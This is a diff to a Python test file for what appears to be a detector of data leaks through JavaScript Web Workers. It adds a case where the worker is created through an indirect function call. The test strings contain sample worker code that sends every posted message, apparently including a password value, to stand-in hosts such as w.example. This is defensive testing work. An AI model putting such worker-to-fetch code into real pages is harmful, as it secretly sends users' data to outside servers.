@@ -40,6 +40,14 @@ def test_nothing_is_sent_when_the_worker_sends_something_else(code: str) -> None
     assert sends(decoded_flows_of(posted.encode())) == set()
 
 
+@pytest.mark.parametrize(("called", "found"), [("URL.createObjectURL", True), ("URL.revokeObjectURL", False)])
+def test_an_address_is_seen_through_a_function_that_calls_what_it_is_given(called: str, found: bool) -> None:
+    code = "onmessage = (e) => fetch('https://w.example/?' + e.data)"
+    source = f'const q = {{c: (f, x) => f(x)}}; new Worker(q.c({called}, new Blob(["{code}"]))); postMessage(1)'
+    c = columns(source.encode())
+    assert (unfold_workers(c, resolve(c)) is not None) == found
+
+
 def test_a_worker_hears_only_what_is_posted_to_it_when_there_are_two() -> None:
     one, two = (f"{BLOB}\"onmessage = (e) => fetch('https://{name}.example/?' + e.data)\"])))" for name in "ab")
     posted = f"const a = {one}, b = {two}; b.postMessage({PW}); a.postMessage('x');"
